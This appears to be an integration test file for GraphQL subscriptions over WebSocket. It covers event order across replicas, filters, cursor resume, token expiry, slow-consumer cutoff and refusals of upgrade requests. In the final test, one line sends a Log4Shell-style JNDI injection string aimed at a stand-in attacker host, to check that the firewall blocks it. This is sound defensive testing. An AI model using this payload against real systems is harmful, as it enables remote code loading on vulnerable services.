/**
 * Subscriptions end to end: two data planes on one real PostgreSQL (as two replicas), subscribers
 * with the graphql-ws client on one, writes through the other; filters on nested properties and
 * links; resume after a disconnect; token expiry and a config change ending a subscription
 * (4403); a slow consumer cut off (4429) while another subscriber keeps up; upgrade refusals.
 * The protocols' message-level behaviour is in protocols.test.ts.
 */
import { expect } from 'chai';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { createClient, type Client } from 'graphql-ws';
import WebSocket from 'ws';
import { loadOrCreateDevIssuer } from '../auth/dev-issuer.js';
import { adminClient, EXAMPLES_DIR, startTestDataPlane, type TestDataPlane } from '../../test-support/dataplane.js';
import { freshDatabase } from '../../test-support/postgres.js';
import { gqlClient, take, wsUrl } from '../../test-support/graphql-ws.js';
import { PERSON_WRITES } from '../../test-support/feed-replicas.js';

const ADMIN = 'Proxy demo-admin';
/** Writes of 900 KB records in the slow-consumer test. */
const WRITES = 80; // a multiple of 4

/** Nothing more arrives within `ms`. */
async function quiet<T>(iterator: AsyncIterator<T>, ms = 300): Promise<void> {
  const next = await Promise.race([iterator.next(), new Promise<'quiet'>((r) => setTimeout(() => r('quiet'), ms))]);
  expect(next, 'an unexpected event').to.equal('quiet');
}

type Ev = { data?: Record<string, { op: string; cursor: string; record: Record<string, unknown> | null }>; errors?: { message: string; extensions?: { code?: string } }[] };

const until = async (check: () => boolean, ms = 5000) => {
  const end = Date.now() + ms;
  while (!check()) {
    if (Date.now() > end) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 20));
  }
};

describe('GraphQL subscriptions over WebSocket (two data planes, one PostgreSQL)', function () {
  this.timeout(60000);
  let databaseUrl: string;
  let manifests: string;
  let a: TestDataPlane; // subscribers
  let b: TestDataPlane; // writers
  let writeB: ReturnType<typeof adminClient>;
  const clients: Client[] = [];
  const client = (...args: Parameters<typeof gqlClient>) => {
    const c = gqlClient(...args);
    clients.push(c);
    return c;
  };
  const write = async (body: unknown) => {
    const r = await writeB({ path: '/demo', body });
    expect(r.status, r.text).to.be.oneOf([200, 201]);
    return r.json;
  };

  before(async () => {
    databaseUrl = await freshDatabase();
    manifests = mkdtempSync(join(tmpdir(), 'das-subs-manifests-'));
    cpSync(EXAMPLES_DIR, manifests, { recursive: true });
    const dataDir = mkdtempSync(join(tmpdir(), 'das-subs-data-'));
    // One data directory: both replicas share the development issuer's key and the page-token key, as a Deployment's would.
    a = await startTestDataPlane({ databaseUrl, manifests, dataDir, env: { DAS_SUBSCRIPTION_QUEUE: '20', DAS_CHANGE_POLL_MS: '2000', DAS_WS_CLOSE_GRACE_MS: '60000' } });
    b = await startTestDataPlane({ databaseUrl, manifests, dataDir });
    writeB = adminClient(b);
    await write({ create: { schema: 'demo.Company', id: 'acme', data: { name: 'Acme' } } });
    await write({ create: { schema: 'demo.Company', id: 'globex', data: { name: 'Globex' } } });
  });
  after(async () => {
    await Promise.all(clients.map((c) => c.dispose()));
    await a?.stop();
    await b?.stop();
  });

  it('delivers creates, replaces, merges, deletes and an ATOMIC batch written through the other replica, in commit order', async () => {
    const sub = client(a).iterate({ query: 'subscription { demo_Person { op cursor record { id version name age address { postcode } employer { id name } } } }' }) as AsyncIterator<Ev>;
    // Subscribed once the first write after this shows up; write only after the subscription is registered.
    await until(() => a.dataPlane.dispatcher.subscriptions >= 1);
    for (const body of PERSON_WRITES) await write(body);
    const events = (await take(sub, 6)).map((e) => e.data!.demo_Person);
    expect(events.map((e) => [e.op, e.record?.id, e.record?.version])).to.deep.equal([
      ['CREATE', 'p1', 1],
      ['UPDATE', 'p1', 2],
      ['UPDATE', 'p1', 3],
      ['DELETE', 'p1', 4],
      ['CREATE', 'p2', 1],
      ['CREATE', 'p3', 1],
    ]);
    expect(events[0].record).to.deep.include({ name: 'Ada', age: 36, address: { postcode: 'N1' }, employer: { id: 'acme', name: 'Acme' } });
    expect(events[1].record).to.deep.include({ name: 'Ada L', age: 37, address: null, employer: null });
    expect(events[2].record).to.deep.include({ name: 'Ada L', address: { postcode: 'E2' } });
    expect(events[3].record).to.deep.equal({ id: 'p1', version: 4, name: null, age: null, address: null, employer: null });
    expect(events[5].record?.employer).to.deep.equal({ id: 'initech', name: 'Initech' });
    const cursors = events.map((e) => BigInt(e.cursor));
    expect([...cursors].sort((x, y) => (x < y ? -1 : 1))).to.deep.equal(cursors);
    await quiet(sub);
    // Counted on /metrics of the replica that serves the subscription.
    const metrics = await adminClient(a)({ path: '/metrics' });
    expect(metrics.status).to.equal(200);
    expect(metrics.text).to.match(/^das_subscriptions 1$/m);
    expect(metrics.text).to.match(/^das_subscription_connections [1-9]/m);
    expect(Number(/^das_subscription_events_delivered (\d+)$/m.exec(metrics.text)?.[1])).to.be.at.least(6);
    await sub.return?.();
  });

  it('filters on nested properties, links and ids, evaluated on the record (a delete on the record as it was)', async () => {
    const c = client(a);
    const byPostcode = c.iterate({ query: `subscription { demo_Person(filter: "address.postcode == 'N1' and employer.id == 'globex'") { op record { id } } }` }) as AsyncIterator<Ev>;
    const byIds = c.iterate({ query: 'subscription($ids: [ID!]) { demo_Person(ids: $ids) { op record { id } } }', variables: { ids: ['f2'] } }) as AsyncIterator<Ev>;
    await until(() => a.dataPlane.dispatcher.subscriptions >= 2);
    await write({ create: { schema: 'demo.Person', id: 'f1', data: { name: 'In', address: { postcode: 'N1' }, employer: { id: 'globex' } } } });
    await write({ create: { schema: 'demo.Person', id: 'f2', data: { name: 'Out', address: { postcode: 'N1' }, employer: { id: 'acme' } } } });
    await write({ update: { schema: 'demo.Person', id: 'f1', data: { address: { postcode: 'E2' } }, mode: 'merge' } });
    await write({ update: { schema: 'demo.Person', id: 'f2', data: { employer: { id: 'globex' } }, mode: 'merge' } });
    await write({ delete: { schema: 'demo.Person', id: 'f2' } });
    expect((await take(byPostcode, 3)).map((e) => [e.data!.demo_Person.op, e.data!.demo_Person.record!.id])).to.deep.equal([
      ['CREATE', 'f1'],
      ['UPDATE', 'f2'],
      ['DELETE', 'f2'],
    ]);
    expect((await take(byIds, 3)).map((e) => e.data!.demo_Person.op)).to.deep.equal(['CREATE', 'UPDATE', 'DELETE']);
    await quiet(byPostcode);
    await byPostcode.return?.();
    await byIds.return?.();
  });

  it('resumes with after: every change missed while disconnected, once, then live; an expired cursor is CURSOR_EXPIRED', async () => {
    const first = client(a);
    const sub = first.iterate({ query: 'subscription { demo_Company { op cursor record { id name } } }' }) as AsyncIterator<Ev>;
    await until(() => a.dataPlane.dispatcher.subscriptions >= 1);
    await write({ update: { schema: 'demo.Company', id: 'acme', data: { name: 'Acme 1' } } });
    const [seen] = await take(sub, 1);
    const cursor = seen.data!.demo_Company.cursor;
    await first.dispose();
    await until(() => a.dataPlane.dispatcher.subscriptions === 0);
    for (const n of [2, 3, 4]) await write({ update: { schema: 'demo.Company', id: 'acme', data: { name: `Acme ${n}` } } });
    const resumed = client(a).iterate({ query: 'subscription($after: String) { demo_Company(after: $after) { op cursor record { name } } }', variables: { after: cursor } }) as AsyncIterator<Ev>;
    const replayed = await take(resumed, 3);
    expect(replayed.map((e) => e.data!.demo_Company.record!.name)).to.deep.equal(['Acme 2', 'Acme 3', 'Acme 4']);
    await write({ update: { schema: 'demo.Company', id: 'acme', data: { name: 'Acme 5' } } });
    const [live] = await take(resumed, 1);
    expect(live.data!.demo_Company.record!.name).to.equal('Acme 5');
    await quiet(resumed);
    await resumed.return?.();

    // Pretend the retention passed over the cursor.
    const db = new pg.Client(databaseUrl);
    await db.connect();
    await db.query(`UPDATE demo."das$changes_pruned" SET through = $1`, [live.data!.demo_Company.cursor]);
    await db.end();
    const expired = client(a).iterate({ query: 'subscription($after: String) { demo_Company(after: $after) { op } }', variables: { after: cursor } }) as AsyncIterator<Ev>;
    const [answer] = await take(expired, 1);
    expect(answer.errors?.[0].extensions?.code).to.equal('CURSOR_EXPIRED');
  });

  it('ends a connection whose token expires with 4403', async () => {
    const env = a.dataPlane.store.environment!;
    const issuer = await loadOrCreateDevIssuer(a.dataDir, { issuer: env.identityProvider!.issuer, audience: env.identityProvider!.audiences[0] });
    const token = await issuer.sign({ sub: 'short-lived', ttlSeconds: 2 });
    let closed: number | undefined;
    const c = client(a, `Bearer ${token}`, (code) => (closed = code));
    const sub = c.iterate({ query: 'subscription { demo_Company { op } }' }) as AsyncIterator<Ev>;
    void sub.next().catch(() => undefined);
    await until(() => closed !== undefined, 6000);
    expect(closed).to.equal(4403);
  });

  it('ends connections whose access a config change withdraws (4403); others keep their subscriptions; the schema is regenerated', async () => {
    const env = a.dataPlane.store.environment!;
    const issuer = await loadOrCreateDevIssuer(a.dataDir, { issuer: env.identityProvider!.issuer, audience: env.identityProvider!.audiences[0] });
    const token = await issuer.sign({ sub: 'reader' });
    let publicClosed: number | undefined;
    const pub = client(a, `Bearer ${token}`, (code) => (publicClosed = code));
    const pubSub = pub.iterate({ query: 'subscription { demo_Company { op } }' }) as AsyncIterator<Ev>;
    void pubSub.next().catch(() => undefined);
    const adminSub = client(a).iterate({ query: 'subscription { demo_Company { op record { name } } }' }) as AsyncIterator<Ev>;
    await until(() => a.dataPlane.dispatcher.subscriptions >= 2);
    const file = join(manifests, 'dataset-demo.yaml');
    const original = readFileSync(file, 'utf8');
    try {
      // The same edit adds a property: the regenerated schema has it, open subscriptions stay.
      const edited = original.replace(/public:\n(\s+)enabled: true/, 'public:\n$1enabled: false').replace(/(demo\.Company:\n\s+properties:\n)(\s+)(name: \{ type: string \}\n)/, '$1$2$3$2motto: { type: string }\n');
      expect(edited).to.contain('motto');
      writeFileSync(file, edited);
      await until(() => publicClosed !== undefined, 10000);
      expect(publicClosed).to.equal(4403);
      const motto = await adminClient(a)({ path: '/demo/graphql', body: { query: '{ demo_Company(id: "globex") { name motto } }' } });
      expect(motto.json, motto.text).to.deep.equal({ data: { demo_Company: { name: 'Globex', motto: null } } });
      await write({ update: { schema: 'demo.Company', id: 'globex', data: { name: 'Globex 2' } } });
      const [event] = await take(adminSub, 1);
      expect(event.data!.demo_Company.record!.name).to.equal('Globex 2');
    } finally {
      writeFileSync(file, original);
    }
    await adminSub.return?.();
  });

  it('cuts off a consumer that does not read (4429) without delaying another subscriber', async () => {
    const keeping = client(a).iterate({ query: 'subscription { demo_Person(filter: "name == \'big\'") { record { id } } }' }) as AsyncIterator<Ev>;
    const slow = new WebSocket(wsUrl(a), 'graphql-transport-ws');
    const closed = new Promise<number>((resolve) => slow.once('close', (code) => resolve(code)));
    await new Promise((r) => slow.once('open', r));
    slow.send(JSON.stringify({ type: 'connection_init', payload: { Authorization: ADMIN } }));
    await new Promise((r) => slow.once('message', r));
    slow.send(JSON.stringify({ id: 's', type: 'subscribe', payload: { query: 'subscription { demo_Person { record { id email } } }' } }));
    await until(() => a.dataPlane.dispatcher.subscriptions >= 2);
    // Stop reading: the kernel buffers fill, then the server's queue (DAS_SUBSCRIPTION_QUEUE=20).
    (slow as unknown as { _socket: { pause(): void } })._socket.pause();
    // Enough to fill the kernel's socket buffers on both ends (autotuned up to tens of MB) and then the queue.
    const big = 'x'.repeat(900_000);
    const started = Date.now();
    for (let i = 0; i < WRITES; i += 4) {
      await Promise.all([0, 1, 2, 3].map((j) => write({ create: { schema: 'demo.Person', id: `big-${i + j}`, data: { name: 'big', email: big } } })));
    }
    const received = await take(keeping, WRITES, 20000);
    expect(received).to.have.length(WRITES);
    // The server ended the slow subscription; the client sees the close once it reads again (within
    // the close grace set above; past it the socket is cut, test/websocket-hostile.test.ts).
    await until(() => a.dataPlane.dispatcher.subscriptions === 1, 10000);
    (slow as unknown as { _socket: { resume(): void } })._socket.resume();
    expect(await closed).to.equal(4429);
    expect(Date.now() - started).to.be.below(20000);
    await keeping.return?.();
  });

  it('refuses upgrades like REST refuses requests: unknown dataset 404, bad credentials 403, the firewall 403, no credentials at init 4401, an unknown subprotocol 400', async () => {
    const status = (url: string, protocols: string | string[], headers: Record<string, string> = {}) =>
      new Promise<number>((resolve, reject) => {
        const ws = new WebSocket(url, protocols, { headers });
        ws.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
        ws.once('open', () => reject(new Error('upgraded')));
        ws.once('error', () => undefined);
      });
    expect(await status(wsUrl(a, '/nope/graphql'), 'graphql-transport-ws')).to.equal(404);
    expect(await status(wsUrl(a, '/demo/other'), 'graphql-transport-ws')).to.equal(404);
    expect(await status(wsUrl(a), 'graphql-transport-ws', { authorization: 'Proxy someone-else' })).to.equal(403);
    expect(await status(wsUrl(a), 'mqtt')).to.equal(400);
    // The API gateway firewall inspects the upgrade request like any other.
    expect(await status(wsUrl(a), 'graphql-transport-ws', { authorization: ADMIN, 'user-agent': '${jndi:ldap://attacker.example/x}' })).to.equal(403);
    const anonymous = new WebSocket(wsUrl(a), 'graphql-transport-ws');
    const code = new Promise<number>((resolve) => anonymous.once('close', (c) => resolve(c)));
    anonymous.once('open', () => anonymous.send(JSON.stringify({ type: 'connection_init' })));
    expect(await code).to.equal(4401);
    // The credentials in the upgrade request serve as well as in connection_init.
    const viaHeader = createClient({ url: wsUrl(a), webSocketImpl: class extends WebSocket { constructor(url: string, protocols: string[]) { super(url, protocols, { headers: { authorization: ADMIN } }); } }, retryAttempts: 0 });
    clients.push(viaHeader);
    const r = (await take(viaHeader.iterate({ query: '{ demo_Company(id: "acme") { name } }' }) as AsyncIterator<{ data: { demo_Company: { name: string } } }>, 1))[0];
    expect(r.data.demo_Company.name).to.match(/^Acme/);
  });
});
